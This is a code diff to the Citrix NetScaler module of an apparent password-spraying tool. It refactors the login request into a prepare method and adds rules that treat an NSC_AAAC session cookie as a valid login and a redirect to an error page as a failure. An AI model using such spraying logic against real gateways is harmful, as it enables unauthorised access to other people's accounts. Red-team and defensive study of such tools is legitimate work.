@@ -1,5 +1,4 @@
-import requests
-
+from .classes.Attempt import HttpRequest
 from .classes.BaseHttpTarget import BaseHttpTarget
 
 ##############################
@@ -11,6 +10,14 @@ class Citrix(BaseHttpTarget):
     NAME = "Citrix"
     DESCRIPTION = "Spray Citrix NetScaler"
 
+    RULES = [
+        # Successful logins get an AAA session cookie
+        {"cookie": "NSC_AAAC", "result": "Success", "message": "Valid login"},
+
+        # Failed logins redirect back to the login page with an error code
+        {"location": "errorcode|/vpn/index\\.html", "result": "Fail"},
+    ]
+
     def __init__(self, host, port, timeout, fireprox):
         self.timeout = timeout
         self.host = host
@@ -44,24 +51,12 @@ class Citrix(BaseHttpTarget):
         }
     """
 
-    def set_username(self, username):
-        self.data["login"] = username
-        self.username = username
-
-    def set_password(self, password):
-        self.data["passwd"] = password
-        self.password = password
-
-    def login(self, username, password):
-        # set data
-        self.set_username(username)
-        self.set_password(password)
-        # post the request
-        response = requests.post(
-            self.url,
+    def prepare(self, username, password):
+        return HttpRequest(
+            username,
+            password,
+            url=self.url,
             headers=self.headers,
-            data=self.data,
+            data={**self.data, "login": username, "passwd": password},
             timeout=self.timeout,
-            verify=False,
-        )  # , proxies=self.proxyDict)
-        return response
+        )